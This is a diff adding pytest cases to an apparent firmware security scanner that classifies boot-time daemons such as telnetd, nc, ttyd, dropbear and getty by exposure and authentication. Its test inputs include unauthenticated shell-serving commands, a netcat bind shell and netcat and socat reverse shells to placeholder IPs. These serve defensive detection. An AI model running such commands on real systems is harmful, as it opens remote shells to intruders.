@@ -225,6 +225,20 @@ def test_only_comments_and_kills(tmp_path):
     assert result == []
 
 
+def test_links_init_never_runs(tmp_path):
+    # busybox init ignores runlevels and has no procd: rc3.d and rc.d/S* links nobody calls start nothing
+    files = {
+        "/bin/busybox": ELF,
+        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
+        "/etc/init.d/rcS": "#!/bin/sh\nmount -a\n",
+        "/etc/init.d/telnet": "#!/bin/sh\ntelnetd -l /bin/sh\n",
+    }
+    links = {"/usr/sbin/telnetd": "/bin/busybox", "/bin/mount": "/bin/busybox", "/bin/sh": "/bin/busybox",
+             "/etc/rc3.d/S50telnet": "../init.d/telnet", "/etc/rc.d/S50telnet": "../init.d/telnet"}
+    result, services = run(tmp_path, files, links)
+    assert services == [] and result == []
+
+
 def test_busybox_without_inittab(tmp_path):
     files = {"/bin/busybox": ELF, "/etc/init.d/rcS": "#!/bin/sh\n/usr/sbin/telnetd\n"}
     links = {"/sbin/init": "../bin/busybox", "/bin/sh": "busybox", "/usr/sbin/telnetd": "../../bin/busybox"}
@@ -707,6 +721,81 @@ def test_helpers():
     script = shell.parse("a=1; b=\"x\" c\nif true; then\n d &\nfi\ncat <<'  EOF'\nx\n  EOF\ne")
     assert script.errors == []
     assert len(script.body) == 5
+
+
+class _NoFiles:
+    def text(self, path):
+        return None
+
+    def strings_of(self, path):
+        return []
+
+
+@pytest.mark.parametrize(("name", "args", "tty", "expected"), [
+    ("telnetd", ["-b", "0.0.0.0:2300"], None, ("remote-shell", [("tcp", 2300)], "password", False)),
+    ("telnetd", ["-l/bin/ash"], None, ("remote-shell", [("tcp", 23)], "none", True)),
+    ("utelnetd", ["-p", "2424", "-l", "/bin/sh", "-d"], None, ("remote-shell", [("tcp", 2424)], "none", True)),
+    ("uhttpd", ["-f", "-h", "/www", "-p", "0.0.0.0:80", "-s", "0.0.0.0:443"], None,
+     ("listener", [("tcp", 80), ("tcp", 443)], "unknown", False)),
+    ("httpd", ["-p", "[::]:8080"], None, ("listener", [("tcp", 8080)], "unknown", False)),
+    ("gdbserver", ["--multi", "0.0.0.0:9999"], None, ("debug", [("tcp", 9999)], "none", False)),
+    ("snmpd", ["-Lsd", "udp:1161"], None, ("listener", [("udp", 1161)], "password", False)),
+    ("ntpd", ["-n", "-p", "pool.ntp.org"], None, ("client", [], "none", False)),
+    ("ntpd", ["-n", "-l"], None, ("client", [("udp", 123)], "none", False)),
+    ("ftpd", ["-w", "-a", "ftp", "/srv"], None, ("file-transfer", [("tcp", 21)], "none", False)),
+    ("nc", ["-lvp", "4444", "-e", "/bin/bash"], None, ("remote-shell", [("tcp", 4444)], "none", True)),
+    ("nc", ["-l", "5555"], None, ("listener", [("tcp", 5555)], "none", False)),
+    ("nc", ["-ulp", "5353"], None, ("listener", [("udp", 5353)], "none", False)),
+    ("ttyd", ["-p", "8000", "bash"], None, ("remote-shell", [("tcp", 8000)], "none", True)),
+    ("ttyd", ["-c", "admin:secret", "bash"], None, ("remote-shell", [("tcp", 7681)], "password", False)),
+    ("ttyd", ["login"], None, ("remote-shell", [("tcp", 7681)], "password", False)),
+    ("agetty", ["--autologin", "root", "ttyS0", "115200"], None, ("getty", [], "none", True)),
+    ("getty", ["-L", "ttyS0", "115200"], None, ("getty", [], "password", False)),
+    ("login", ["-f", "root"], "ttyS0", ("login", [], "none", True)),
+    ("dropbear", ["-F", "-s", "-p", "2222"], None, ("ssh", [("tcp", 2222)], "key", False)),
+    ("cwmpd", [], None, ("client", [], "unknown", False)),
+    ("cwmpd", ["--port", "7547"], None, ("client", [("tcp", 7547)], "unknown", False)),
+    ("adbd", [], None, ("debug", [], "unknown", False)),
+])
+def test_classify_options(name, args, tty, expected):
+    from veracity.checks.boot.daemons import classify
+    from veracity.checks.boot.interp import Launch
+
+    launch = Launch(name, f"/usr/sbin/{name}", f"/usr/sbin/{name}", tuple(args), ("/etc/init.d/rcS",), 3, "", "script",
+                    daemon=True, tty=tty)
+    [svc] = classify(launch, _NoFiles())
+    assert (svc.klass, svc.ports, svc.auth, svc.shell_served) == expected
+
+
+def test_classify_not_services():
+    from veracity.checks.boot.daemons import classify
+    from veracity.checks.boot.interp import Launch
+
+    def launch(name, args=(), daemon=False, tty=None):
+        return Launch(name, f"/bin/{name}", "/bin/busybox", tuple(args), ("/etc/init.d/rcS",), 1, "", "script",
+                      daemon=daemon, tty=tty)
+
+    assert classify(launch("nc", ["10.0.0.1", "80", "-e", "/bin/sh"], daemon=True), _NoFiles()) == []  # connects out
+    assert classify(launch("sleep", ["5"], daemon=True), _NoFiles()) == []
+    assert classify(launch("vendor_tool", ["x"]), _NoFiles()) == []  # foreground, unknown
+    assert classify(launch("login"), _NoFiles()) == []  # not on a console
+    assert classify(launch("sh", ["-i"]), _NoFiles()) == []  # neither console nor port
+    assert classify(launch("socat", ["TCP:1.2.3.4:80", "EXEC:/bin/sh"], daemon=True), _NoFiles()) == []
+
+
+def test_ssh_blank_passwords_with_empty_account(tmp_path):
+    accounts = [{"name": "guest", "uid": 1001, "gid": 100, "shell": "/bin/sh", "home": "/", "password_state": "empty",
+                 "source": "/etc/shadow", "login": True, "password_hint": None}]
+    files = {"/bin/busybox": ELF, "/usr/sbin/dropbear": ELF, "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
+             "/etc/init.d/rcS": "#!/bin/sh\ndropbear -B -p 22\ndropbear -p 2022\n"}
+    result, services = run(tmp_path, files, {"/bin/sh": "busybox"}, accounts=accounts)
+    blank = service(services, "dropbear", ports=[{"proto": "tcp", "port": 22}])
+    assert blank["auth"] == "none" and blank["credentials"][0]["password_state"] == "empty"
+    assert service(services, "dropbear", ports=[{"proto": "tcp", "port": 2022}])["auth"] == "password"
+    assert by_rule(result, "VER-SVC-002") == [("/etc/init.d/rcS", 2)]
+    assert by_rule(result, "VER-SVC-004") == [("/etc/init.d/rcS", 3)]
+    [f] = [f for f in result if f.rule == "VER-SVC-002"]
+    assert "blank password" in f.title
 
 
 def test_catalogue_is_consistent():
